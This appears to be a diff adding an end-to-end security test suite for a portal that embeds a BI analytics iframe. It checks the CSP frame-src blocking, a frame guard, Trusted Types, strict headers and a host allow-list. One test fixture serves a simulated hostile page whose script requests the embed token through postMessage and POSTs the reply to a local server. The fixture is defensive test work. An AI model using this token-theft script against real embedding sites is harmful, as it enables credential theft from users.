@@ -1,0 +1,147 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { describe } from 'vitest'
+import { boardReady, expect, journey } from '../support/journey'
+
+const sdkFrame = 'iframe[data-ts-iframe]'
+
+/** A page of somebody else's, on an origin of its own, that asks for the token as soon as it is in the frame. */
+async function foreignPage(): Promise<{
+  readonly origin: string
+  readonly stolen: () => readonly unknown[]
+  readonly close: () => Promise<void>
+}> {
+  const stolen: unknown[] = []
+  const server = createServer((request, response) => {
+    if (request.method === 'POST') {
+      let body = ''
+      request.on('data', (part: Buffer) => (body += part.toString()))
+      request.on('end', () => {
+        stolen.push(JSON.parse(body))
+        response.end()
+      })
+      return
+    }
+    response.writeHead(200, { 'content-type': 'text/html' })
+    response.end(`<!doctype html><title>Foreign</title><script>
+      const { port1, port2 } = new MessageChannel()
+      port1.onmessage = ({ data }) => fetch('/', { method: 'POST', body: JSON.stringify(data) })
+      parent.postMessage({ type: 'appInit', data: {} }, '*', [port2])
+      parent.postMessage({ type: 'foreign-page-is-here' }, '*')
+    </script>`)
+  })
+  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve))
+  return {
+    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    stolen: () => stolen,
+    close() {
+      server.closeAllConnections()
+      return new Promise((resolve) => void server.close(() => resolve()))
+    },
+  }
+}
+
+describe('a foreign page in the frame that asks for the token', () => {
+  journey('is stopped by the policy alone', async ({ page, visitor }) => {
+    const foreign = await foreignPage()
+    visitor.expectConsole(/frame-src|Content Security Policy/, 'the policy says that it has stopped the page')
+    await page.goto(visitor.address('/home'))
+    await boardReady(page)
+    const violated = page.evaluate(
+      () =>
+        new Promise<string>((resolve) =>
+          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
+            once: true,
+          }),
+        ),
+    )
+    await page
+      .locator(sdkFrame)
+      .evaluate((frame, address) => (frame as HTMLIFrameElement).setAttribute('src', address), foreign.origin)
+    expect(await violated).toBe('frame-src')
+    expect(foreign.stolen()).toEqual([])
+    await foreign.close()
+  })
+
+  journey('is stopped by the guard alone, and the portal says so', async ({ visit }) => {
+    const foreign = await foreignPage()
+    const visitor = await visit({ context: { bypassCSP: true } })
+    const { page } = visitor
+    visitor.expectConsole(
+      /spoke from a BI frame; the frame was removed/,
+      'the guard writes down what it has stopped',
+    )
+    visitor.expectConsole(/frame-blocked/, 'and so does the view')
+    await page.goto(visitor.address('/home'))
+    await boardReady(page)
+    const token = (): number => visitor.count(/\/api\/token/)
+    const before = token()
+    await page
+      .locator(sdkFrame)
+      .evaluate((frame, address) => (frame as HTMLIFrameElement).setAttribute('src', address), foreign.origin)
+    await page.getByRole('main').getByRole('button', { name: 'Retry' }).waitFor()
+    expect(await page.locator(sdkFrame).count()).toBe(0)
+    expect(foreign.stolen()).toEqual([])
+    expect(token()).toBe(before)
+    await page.getByRole('main').getByRole('button', { name: 'Retry' }).click()
+    await boardReady(page)
+    await foreign.close()
+  })
+})
+
+describe('the page itself', () => {
+  journey(
+    'has the strict policy, Trusted Types and the headers of every answer',
+    async ({ page, visitor }) => {
+      const response = await page.goto(visitor.address('/home'))
+      const headers = response?.headers() ?? {}
+      const policy = headers['content-security-policy'] ?? ''
+      for (const part of [
+        "default-src 'none'",
+        "require-trusted-types-for 'script'",
+        "frame-ancestors 'none'",
+        "base-uri 'none'",
+      ]) {
+        expect(policy).toContain(part)
+      }
+      expect(policy).not.toMatch(/unsafe|\*/)
+      expect(headers['x-content-type-options']).toBe('nosniff')
+      const refused = await page.evaluate(() => {
+        try {
+          document.createElement('div').innerHTML = '<b>no</b>'
+          return 'written'
+        } catch (error) {
+          return (error as Error).name
+        }
+      })
+      expect(refused).toBe('TypeError')
+      visitor.expectConsole(/TrustedHTML|Trusted Type/, 'the browser says why it refused')
+    },
+  )
+
+  journey('answers a missing asset with 404, never with the page', async ({ visitor }) => {
+    const missing = await visitor.context.request.get(visitor.address('/open-data/gone-1234.js'))
+    expect(missing.status()).toBe(404)
+    expect(await missing.text()).not.toContain('<div id="root"')
+  })
+
+  journey(
+    'ignores a stored BI host that is not on the list, with one warning',
+    async ({ page, visitor, origins }) => {
+      const warnings: string[] = []
+      page.on('console', (message) => {
+        if (message.type() === 'warning' && message.text().includes('thoughtspotHost'))
+          warnings.push(message.text())
+      })
+      await visitor.context.addInitScript((portal) => {
+        if (location.origin === portal) localStorage.setItem('thoughtspotHost', 'http://127.0.0.2:9')
+      }, origins.portal)
+      await page.goto(visitor.address('/home'))
+      await boardReady(page)
+      expect(warnings).toHaveLength(1)
+      expect(warnings[0]).toContain('its origin is not on the allow-list')
+      const frames = visitor.requests.filter(({ url }) => url.includes('embedApp=true'))
+      for (const { url } of frames) expect(new URL(url).origin).toBe(origins.biHost)
+    },
+  )
+})
